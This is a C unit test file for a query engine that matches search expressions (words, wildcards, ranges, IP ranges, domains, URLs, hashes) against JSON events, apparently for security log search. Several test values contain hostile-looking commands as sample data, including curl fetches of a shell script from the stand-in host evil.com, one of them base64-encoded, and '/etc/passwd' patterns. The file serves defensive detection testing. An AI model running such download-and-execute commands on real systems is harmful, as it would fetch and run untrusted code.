/* The truth about matches, case by case: what the engine is compared with elsewhere. */
#include "query/language/match.h"
#include "query/language/parse.h"
#include "tests/support/test.h"

#define NOW_US INT64_C(1764000000000000) /* 2025-11-24T16:00:00Z */

static bool matches(const char *text, const char *json)
{
    struct query *query = NULL;
    struct err err = {.text = ""};
    struct arena arena = ARENA_INIT;
    struct event event;
    bool is = false;
    EXPECT_OK(parse_query(span_str(text), NOW_US, &query, NULL, &err), err);
    EXPECT(event_parse(span_str(json), NOW_US, &arena, &event));
    if (query) {
        is = match_event(query->root, &event);
    }
    parse_query_free(query);
    arena_fini(&arena);
    return is;
}

struct match_case {
    const char *query;
    const char *json;
    bool is;
};

static void check(const struct match_case *cases, size_t count)
{
    for (size_t i = 0; i < count; i++) {
        if (matches(cases[i].query, cases[i].json) != cases[i].is) {
            fprintf(stderr, "%s on %s should%s match\n", cases[i].query, cases[i].json,
                    cases[i].is ? "" : " not");
            test_failures++;
        }
    }
}

#define CHECK_CASES(cases) check(cases, sizeof(cases) / sizeof(cases)[0])

TEST(words)
{
    static const struct match_case cases[] = {
        {"evil.com", "{\"a\":\"evil.com\"}", true},
        {"evil.com", "{\"a\":\"notevil.com\"}", false},
        {"evil.com", "{\"a\":\"http://EVIL.com/x\"}", true},
        {"evil", "{\"a\":\"evil.com\"}", true},
        {"10.0.0.1", "{\"a\":\"10.0.0.1\"}", true},
        {"10.0.0.1", "{\"a\":\"10.0.0.10\"}", false},
        {"10.0.0.1", "{\"a\":\"10.0.0.1:22\"}", true},
        {"10.0.0.1:22", "{\"a\":\"10.0.0.1:22\"}", true},
        {"10.0.0.1:22", "{\"a\":\"10.0.0.1:2222\"}", false},
        {"3.180.71.3", "{\"a\":\"93.180.71.3\"}", false},
        {"93.180.71.3", "{\"a\":\"from 93.180.71.3, port 5\"}", true},
        {"2001:db8::1", "{\"a\":\"2001:0DB8:0:0:0:0:0:1\"}", true},
        {"2001:db8::1", "{\"a\":\"[2001:db8::1]:443\"}", true},
        {"2001:db8::1", "{\"a\":\"2001:db8::11\"}", false},
        {"550e8400", "{\"a\":1e309}", false},
        {"ALICE", "{\"user\":\"alice\"}", true},
        {"\xc3\x84RGER", "{\"a\":\"\xc3\xa4rger\"}", true},
        {"\xc3\xa4rger", "{\"a\":\"\\u00c4rger\"}", true},
        {"alice", "{\"a\":[\"bob\",\"alice\"]}", true},
        {"alice", "{\"a\":{\"b\":{\"c\":\"alice\"}}}", true},
        {"user", "{\"user\":\"alice\"}", false},
        {"true", "{\"a\":true}", true},
        {"user:alice", "{\"user\":\"alice\",\"b\":\"bob\"}", true},
        {"user:bob", "{\"user\":\"alice\",\"b\":\"bob\"}", false},
        {"User:alice", "{\"user\":\"alice\"}", false},
        {"a.b:x", "{\"a\":{\"b\":\"x\"}}", true},
        {"addr.remote:1.2.3.4", "{\"addr.remote\":\"1.2.3.4:5\"}", true},
        {"\"two words\"", "{\"a\":\"has Two, WORDS here\"}", true},
        {"\"two words\"", "{\"a\":\"two other words\"}", false},
        {"\"two words\"", "{\"a\":\"two\",\"b\":\"words\"}", false},
        {"\"a a b\"", "{\"x\":\"a a a b\"}", true},
        {"two words", "{\"a\":\"two\",\"b\":\"words\"}", true},
        {"curl", "{\"a\":\"sudo curl -s http://x/\"}", true},
        {"-curl", "{\"a\":\"wget\"}", true},
        {"-curl", "{\"a\":\"curl\"}", false},
        {"*", "{}", true},
        {"", "{}", true},
        {"alice OR bob", "{\"a\":\"bob\"}", true},
    };
    CHECK_CASES(cases);
}

TEST(stars)
{
    static const struct match_case cases[] = {
        {"ali*", "{\"a\":\"Alice\"}", true},
        {"lice*", "{\"a\":\"alice\"}", false},
        {"10.0.*", "{\"a\":\"10.0.0.1\"}", true},
        {"/etc/pass*", "{\"a\":\"/etc/passwd\"}", true},
        {"session.s*", "{\"event\":\"session.start\"}", true},
        {"*lic*", "{\"a\":\"ALICE\"}", true},
        {"*d, w*", "{\"a\":\"had, was\"}", false},
        {"a:*", "{\"a\":\"x\"}", true},
        {"a:*", "{\"a\":null}", false},
        {"a:*", "{\"a\":\"\"}", false},
        {"a:*", "{\"a\":0}", true},
        {"*.com", "{\"a\":\"x evil.com y\"}", true},
        {"e*l.com", "{\"a\":\"evil.com\"}", true},
        {"e*l.com", "{\"a\":\"evil.comx\"}", false},
        {"*a*b*c*", "{\"x\":\"1a2b3c4\"}", true},
        {"user:al*", "{\"user\":\"alice\"}", true},
        {"two,wor*", "{\"a\":\"two words\"}", true},
        {"two,wor*", "{\"a\":\"wor two\"}", false},
    };
    CHECK_CASES(cases);
}

TEST(numbers_and_ranges)
{
    static const struct match_case cases[] = {
        {"ei:5", "{\"ei\":5}", true},
        {"ei:5.0", "{\"ei\":5}", true},
        {"ei:5e3", "{\"ei\":5000}", true},
        {"ei:5", "{\"ei\":55}", false},
        {"f:1.1", "{\"f\":1.1}", true},
        {"f:1.1", "{\"f\":1.10}", true},
        {"v:1.1", "{\"v\":\"1.10\"}", false},
        {"v:7", "{\"v\":\"007\"}", false},
        {"443", "{\"dst_port\":443}", true},
        {"ei:>=10", "{\"ei\":10}", true},
        {"ei:>10", "{\"ei\":10}", false},
        {"ei:>10", "{\"ei\":10.5}", true},
        {"ei:<9", "{\"ei\":\"10\"}", false},
        {"ei:>9", "{\"ei\":\"10\"}", true},
        {"ei:>9", "{\"ei\":\"ssh\"}", false},
        {"ei:[1 TO 5]", "{\"ei\":5}", true},
        {"ei:[1 TO 5]", "{\"ei\":[0,6]}", false},
        {"ei:[1 TO 5]", "{\"ei\":[0,3]}", true},
        {"ei:<-5", "{\"ei\":-6}", true},
        {"t:>2026-01-01", "{\"t\":\"2026-01-01T00:00:01+00:00\"}", true},
        {"t:<2026-01-01T00:00:00Z", "{\"t\":\"2026-01-01T00:30:00+01:00\"}", true},
        {"t:>2026-01-01", "{\"t\":\"zzz\"}", false},
        {"n:[b TO d]", "{\"n\":\"Carol\"}", true},
        {"n:[b TO d]", "{\"n\":\"dave\"}", false},
        {"n:<=b", "{\"n\":\"B\"}", true},
    };
    CHECK_CASES(cases);
}

TEST(pseudo_fields)
{
    static const struct match_case cases[] = {
        {"ip:10.0.0.0/8", "{\"a\":\"10.1.2.3:5\"}", true},
        {"ip:10.0.0.0/8", "{\"a\":\"110.1.2.3\"}", false},
        {"ip:10.0.0.0/8", "{\"a\":\"ip-10-1-2-3\"}", false},
        {"ip:10.0.0.1", "{\"a\":\"::ffff:10.0.0.1\"}", true},
        {"ip:10.0.0.0/31", "{\"a\":\"10.0.0.2\"}", false},
        {"ip:2001:db8::/32", "{\"a\":\"[2001:db8:1::2]:5\"}", true},
        {"ip:2001:db8::/32", "{\"a\":\"2001:db9::\"}", false},
        {"ip:0.0.0.0/0", "{\"a\":\"8.8.8.8\"}", true},
        {"ip:0.0.0.0/0", "{\"a\":\"2001:db8::1\"}", false},
        {"ip:[10.0.0.1 TO 10.0.0.9]", "{\"a\":\"10.0.0.5\"}", true},
        {"ip:*", "{\"a\":\"no address\"}", false},
        {"domain:evil.com", "{\"a\":\"evil.com\"}", true},
        {"domain:evil.com", "{\"a\":\"https://a.b.evil.com:8443/p\"}", true},
        {"domain:evil.com", "{\"a\":\"bob@mail.evil.com\"}", true},
        {"domain:evil.com", "{\"a\":\"echo Y3VybCBodHRwOi8vZXZpbC5jb20veC5zaA==\"}", true},
        {"url:evil.com/x.sh", "{\"a\":\"curl HTTPS://u@EVIL.com/x.sh#top\"}", true},
        {"url:\"http://evil.com/x.sh\"", "{\"a\":\"curl https://evil.com/x.sh\"}", false},
        {"url:evil.com/x", "{\"a\":\"curl http://evil.com/x.sh\"}", false},
        {"hash:d41d8cd98f00b204e9800998ecf8427e",
         "{\"a\":\"md5 D41D8CD98F00B204E9800998ECF8427E\"}", true},
        {"hash:d41d8cd98f00b204e9800998ecf8427e", "{\"a\":\"0d41d8cd98f00b204e9800998ecf8427e\"}",
         false},
        {"domain:evil.com", "{\"a\":\"notevil.com\"}", false},
        {"domain:evil.com", "{\"a\":\"evil.com.br\"}", false},
        {"email:alice@example.com", "{\"a\":\"Alice@Example.com\"}", true},
        {"email:alice@example.com", "{\"a\":\"malice@example.com\"}", false},
        {"email:*@example.com", "{\"a\":\"malice@example.com\"}", true},
        {"actor:alice", "{\"user\":\"alice\"}", true},
        {"actor:alice", "{\"identity\":{\"user\":\"alice\"}}", true},
        {"actor:alice", "{\"user\":\"bob\",\"reviewer\":\"alice\"}", false},
        {"actor:alice", "{\"updated_by\":\"alice\"}", true},
        {"actor:*", "{\"name\":\"x\"}", false},
        {"severity:warn", "{\"code\":\"T1000W\"}", true},
        {"severity:warn", "{\"code\":\"T1000I\"}", false},
        {"severity:warn", "{\"other\":\"T1000W\"}", false},
        {"text:alice", "{\"x\":\"alice\"}", true},
        {"time:2025-11-20", "{\"time\":\"2025-11-20T23:59:59.999Z\"}", true},
        {"time:2025-11-20", "{\"time\":\"2025-11-21T00:00:00Z\"}", false},
        {"time:>=-1h", "{\"time\":\"2025-11-24T15:30:00Z\"}", true},
        {"time:>=-1h", "{\"time\":\"2025-11-24T14:30:00Z\"}", false},
        {"time:>=-1h", "{}", true},
        {"uid:ABC-1", "{\"uid\":\"ABC-1\"}", true},
        {"uid:abc-1", "{\"uid\":\"ABC-1\"}", false},
        {"abc-1", "{\"uid\":\"ABC-1\"}", true},
        {"abc", "{\"uid\":\"ABC-1\"}", true},
        {"9f3a146b", "{\"uid\":\"9f3a146b-2766-4a5d-93df-d6f7ff7ad6aa\"}", true},
        {"*9f3a1*", "{\"uid\":\"9f3a146b-2766-4a5d-93df-d6f7ff7ad6aa\"}", true},
        {"9f3a", "{\"uid\":\"9f3a146b-2766-4a5d-93df-d6f7ff7ad6aa\"}", false},
        {"uid:AB*", "{\"uid\":\"ABC-1\"}", true},
        {"2025-11-20T23:59:59Z", "{\"time\":\"2025-11-20T23:59:59Z\"}", true},
        {"2025-11-20T23:59:59Z", "{\"expires\":\"2025-11-20T23:59:59Z\"}", true},
        {"mtls", "{\"stele.source\":\"mtls\"}", false},
        {"stele.source:mtls", "{\"stele.source\":\"mtls\"}", true},
    };
    CHECK_CASES(cases);
}

/* An integer column asks without making text of the number. */
TEST(integers_as_values)
{
    static const char *const queries[] = {
        "x:5",         "x:-5", "x:5.0", "x:5*",       "x:*5*",         "x:>=5", "x:<5",
        "x:[-5 TO 5]", "x:*",  "x:abc", "x:[a TO b]", "x:>2026-01-01", "x:1*5", "x:\"5 5\""};
    static const int64_t numbers[] = {0, 5, -5, 15, 55, 125, -125, 1000000007};
    for (size_t q = 0; q < sizeof queries / sizeof queries[0]; q++) {
        struct query *query = NULL;
        struct err err = {.text = ""};
        EXPECT_OK(parse_query(span_str(queries[q]), NOW_US, &query, NULL, &err), err);
        const struct predicate *predicate = query->leaves[0];
        for (size_t i = 0; i < sizeof numbers / sizeof numbers[0]; i++) {
            char text[32];
            (void)snprintf(text, sizeof text, "%lld", (long long)numbers[i]);
            bool should = match_value(predicate, span_str("x"), span_str(text));
            bool is = match_integer_possible(predicate) && match_integer(predicate, numbers[i]);
            if (is != should) {
                fprintf(stderr, "%s on %s: %d, should be %d\n", queries[q], text, is, should);
                test_failures++;
            }
        }
        parse_query_free(query);
    }
}

TEST_MAIN(TEST_ENTRY(words), TEST_ENTRY(stars), TEST_ENTRY(numbers_and_ranges),
          TEST_ENTRY(pseudo_fields), TEST_ENTRY(integers_as_values))
